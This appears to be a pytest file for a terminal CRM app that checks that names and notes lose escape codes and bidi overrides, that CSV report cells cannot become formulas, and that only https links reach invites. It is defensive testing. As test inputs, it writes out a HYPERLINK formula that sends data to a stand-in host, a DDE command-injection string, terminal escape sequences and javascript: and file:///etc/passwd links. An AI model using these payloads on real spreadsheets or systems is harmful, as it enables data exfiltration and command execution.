"""Text from outside is data: escape codes and bidi overrides never get in."""

from __future__ import annotations

import pytest

from nurture_tui.domain.text import clean_text
from nurture_tui.domain.validation import clean_name
from nurture_tui.services import records
from nurture_tui.services.session import Session


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("\x1b]0;pwned\x07Title", "Title"),  # OSC: retitles the terminal
        ("\x1b[2J\x1b[31mMercy", "Mercy"),  # CSI: clears the screen, colours
        ("Mercy\x1bc", "Mercy"),  # ESC c: resets the terminal
        ("Mer\u202ecy\u202c General", "Mercy General"),  # right-to-left override
        ("\u2066Hope\u2069 Hospice", "Hope Hospice"),  # isolates
        ("Bell\x07 and \x00null\x7f", "Bell and null"),
        ("\x9b31mC1 CSI", "C1 CSI"),
        ("tab\tand\nnewline", "tab and newline"),
        ("[bold red]X", "[bold red]X"),  # markup is text: shown as typed, never interpreted
    ],
)
def test_one_line_fields_lose_controls_and_overrides(raw: str, clean: str) -> None:
    assert clean_text(raw) == clean
    assert clean_name(raw) == clean


def test_multi_line_fields_keep_newlines_and_tabs_only() -> None:
    assert clean_text("first\x1b[1m line\r\n\tsecond\u202e  ", multiline=True) == (
        "first line\n\tsecond"
    )


def test_every_text_a_rep_types_is_cleaned_once_at_the_boundary(session: Session) -> None:
    partner = records.add_partner(
        session, "\x1b]0;pwned\x07Mercy", "hospital", notes="line one\x1b[2J\nline two"
    )
    assert partner.name == "Mercy" and partner.notes == "line one\nline two"
    contact = records.add_contact(
        session, partner.id, "Sam\u202e Ortiz", role="Planner\x07", phone="555\x1b[0m-0100"
    )
    assert (contact.name, contact.role, contact.phone) == ("Sam Ortiz", "Planner", "555-0100")
    draft = records.draft_touchpoint(
        session, partner.id, "call", purpose="Plan\x1b]8;;http://x\x07", note="ok\x00"
    )
    touch = records.save_touchpoint(session, draft)
    assert (touch.purpose, touch.note) == ("Plan", "ok")


def test_report_csv_cells_cannot_be_formulas(session: Session) -> None:
    import csv
    import io

    from nurture_tui.services.reports import build_report, report_csv

    for name in (
        '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
        "+cmd|'/C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
    ):
        records.add_partner(session, name, "hospital")
    rows = list(csv.reader(io.StringIO(report_csv(build_report(session)))))
    names = {row[1] for row in rows[1:]}
    assert names == {
        '\'=HYPERLINK("http://evil.example/?d="&A2,"Click")',
        "'+cmd|'/C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3",
    }
    assert all(not row[3].startswith("'") for row in rows[1:]), "numbers stay numbers"


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "file:///etc/passwd", "http://zoom.us/j/1", "zoom.us/j/1"]
)
def test_only_https_links_reach_an_invite(session: Session, link: str) -> None:
    from datetime import timedelta

    from nurture_tui.domain.errors import ValidationError
    from nurture_tui.services.invites import create_invite

    partner = records.add_partner(session, "Hope Hospice", "hospice")
    records.add_contact(session, partner.id, "Sam Ortiz", emails=["sam@hope.org"])
    with pytest.raises(ValidationError, match="https"):
        create_invite(
            session, partner.id, "check-in", session.now() + timedelta(days=2), video_url=link
        )
